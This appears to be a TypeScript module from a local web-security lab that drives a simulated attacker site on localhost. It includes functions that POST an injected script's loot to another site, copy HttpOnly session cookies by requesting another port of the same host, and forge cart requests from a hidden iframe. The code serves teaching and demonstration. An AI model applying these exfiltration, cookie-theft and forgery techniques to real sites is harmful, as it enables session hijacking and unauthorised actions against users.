import type { AuthMode } from "@repo/contract";
import { arrayOf, nullable, number, object, oneOf, type Shape, string } from "../api/shapes";
import type { LabApi } from "./http";

// The attacker site (apps/attacker, docs/api.md "The attacker site"): a second HTTP server on
// another port of this machine. Reached as http://localhost:<port> it is another *site* than
// this page at http://127.0.0.1:5173; reached as http://127.0.0.1:<port> it is the same site on
// another port, since a site ignores ports. It lets only this page read what it recorded.

/** The attacker site's two names, as this page reaches them. */
export interface AttackerSite {
  /** Another site: `http://localhost:5174` when this page is on 127.0.0.1. */
  crossSite: string;
  /** The same site on another port: `http://127.0.0.1:5174`. */
  sameSite: string;
}

/** The attacker origins this build allows (ATTACKER_ORIGINS, set by vite.config.ts). */
declare const __ATTACKER_ORIGINS__: readonly string[];
const allowedOrigins: readonly string[] =
  typeof __ATTACKER_ORIGINS__ === "undefined" ? [] : __ATTACKER_ORIGINS__;

/** The attacker's port, for the texts that say how to start it (5174 unless the build says). */
export const attackerPort = Number(
  allowedOrigins.map((origin) => new URL(origin).port).find(Boolean) || 5174,
);

/**
 * The attacker site as seen from a page at `location`: of the origins the build allows, the one
 * on this page's host (same site) and one on another host name (another site). A build without
 * them (ATTACKER_ORIGINS=none) falls back to the defaults, which its policy then refuses, and
 * the labs say the attacker site did not answer.
 */
export function attackerSite(
  location: Pick<Location, "protocol" | "hostname">,
  origins: readonly string[] = allowedOrigins,
): AttackerSite {
  const host = (origin: string) => new URL(origin).hostname;
  const other = location.hostname === "localhost" ? "127.0.0.1" : "localhost";
  return {
    crossSite:
      origins.find((origin) => host(origin) !== location.hostname) ??
      `${location.protocol}//${other}:${attackerPort}`,
    sameSite:
      origins.find((origin) => host(origin) === location.hostname) ??
      `${location.protocol}//${location.hostname}:${attackerPort}`,
  };
}

/** One thing the attacker site received, as `GET /records` lists it. */
export interface Recording {
  id: number;
  at: string;
  via: "post" | "get" | "cookie";
  origin: string | null;
  data: string;
}

const recording: Shape<Recording> = object({
  id: number,
  at: string,
  via: oneOf("post", "get", "cookie"),
  origin: nullable(string),
  data: string,
});
const recordings = object({ records: arrayOf(recording) });

/** Sends one request to the attacker site and notes it in the row (and the inspector). */
async function toAttacker(
  api: LabApi,
  url: string,
  init: RequestInit,
  actor: string,
  note?: string,
): Promise<Response | null> {
  const startedAt = performance.now();
  let response: Response | null = null;
  try {
    response = await fetch(url, init);
  } catch {
    response = null;
  }
  api.note(
    {
      actor,
      method: init.method ?? "GET",
      path: url,
      status: response ? response.status : 0,
      // A no-cors answer arrived, but this page may not read even its status.
      ...(response?.type === "opaque" ? { opaque: true } : {}),
      trace: [],
      ...(note ? { note } : {}),
      ...(response ? {} : { errorCode: "attacker site down" }),
    },
    performance.now() - startedAt,
  );
  return response;
}

/** What the recorder holds now, newest first; null when the attacker site does not answer. */
export async function readRecordings(api: LabApi, site: AttackerSite): Promise<Recording[] | null> {
  const response = await toAttacker(api, `${site.sameSite}/records`, {}, "lab");
  if (!response?.ok) return null;
  const body: unknown = await response.json().catch(() => null);
  return recordings(body) ? body.records : null;
}

/** Forgets every recording, so a run reads back only its own. */
export async function clearRecordings(api: LabApi, site: AttackerSite): Promise<boolean> {
  const response = await toAttacker(api, `${site.sameSite}/records`, { method: "DELETE" }, "lab");
  return response?.status === 204;
}

/** What an injected script does with its loot: POST it to the attacker, as text. */
export async function exfiltrate(api: LabApi, site: AttackerSite, data: string): Promise<boolean> {
  const response = await toAttacker(
    api,
    `${site.crossSite}/record`,
    { method: "POST", body: data, credentials: "omit" },
    "script",
    "what the script found, sent to another site",
  );
  return response?.status === 204;
}

/**
 * Copies the cookies this browser holds for `path` (such as `/api/session`), HttpOnly ones
 * included, the way any server on this host can: cookies ignore ports (RFC 6265, section 8.5),
 * so a request to another port of 127.0.0.1 carries them, and the attacker site records its
 * Cookie header. Returns the value of `name`, or null when none arrived or the site is down.
 */
export async function copyCookieViaNeighbour(
  api: LabApi,
  site: AttackerSite,
  path: string,
  name: string,
): Promise<string | null> {
  if (!(await clearRecordings(api, site))) return null;
  await toAttacker(
    api,
    `${site.sameSite}${path}/`,
    { credentials: "include", mode: "no-cors" },
    "neighbour",
    "same host, other port: the browser attaches this host's cookies",
  );
  const found = await readRecordings(api, site);
  const header = found?.find((entry) => entry.via === "cookie")?.data ?? "";
  return cookieValue(header, name);
}

/** Why a lab has no copy of a cookie: the neighbour never recorded one. */
export function noCopyReason(site: AttackerSite): string {
  return `no copy of the cookie: the attacker site at ${site.sameSite} recorded none (is it running? npm start -w apps/attacker)`;
}

/** The first value of cookie `name` in a Cookie header, as sent (still percent-encoded). */
export function cookieValue(header: string, name: string): string | null {
  for (const pair of header.split(";")) {
    const [key, ...rest] = pair.trim().split("=");
    if (key === name) return rest.join("=");
  }
  return null;
}

/** What the attacker's forging page tells the lab after it sent its request. */
export interface ForgeryReport {
  source: "attacker";
  run: string;
  mode: AuthMode;
  via: string;
  sent: boolean;
  observed: string;
}

const forgeryReport: Shape<ForgeryReport> = object({
  source: oneOf("attacker"),
  run: string,
  mode: oneOf("session", "jwt"),
  via: string,
  sent: (value): value is boolean => typeof value === "boolean",
  observed: string,
});

/** The forging page's address: a bodiless POST, which meets the auth checks (docs/api.md). */
export function forgeUrl(origin: string, mode: AuthMode, run: string): string {
  return `${origin}/forge?mode=${mode}&via=empty&run=${encodeURIComponent(run)}`;
}

/**
 * Loads the attacker's forging page in a hidden frame: it makes this browser send
 * `POST <this origin>/api/<mode>/cart/items` with whatever the browser attaches by itself, and
 * reports back by `postMessage`. Null when no report came within the time limit.
 */
export function forgeFrom(
  origin: string,
  mode: AuthMode,
  run: string,
  timeoutMs = 15_000,
): Promise<ForgeryReport | null> {
  return new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.hidden = true;
    frame.title = "The attacker's page (hidden)";
    const finish = (report: ForgeryReport | null) => {
      window.removeEventListener("message", onMessage);
      clearTimeout(timer);
      frame.remove();
      resolve(report);
    };
    const onMessage = (event: MessageEvent) => {
      // Only the page we framed, and only this run's report.
      if (event.origin !== origin || !forgeryReport(event.data) || event.data.run !== run) return;
      finish(event.data);
    };
    const timer = setTimeout(() => finish(null), timeoutMs);
    window.addEventListener("message", onMessage);
    frame.src = forgeUrl(origin, mode, run);
    document.body.append(frame);
  });
}
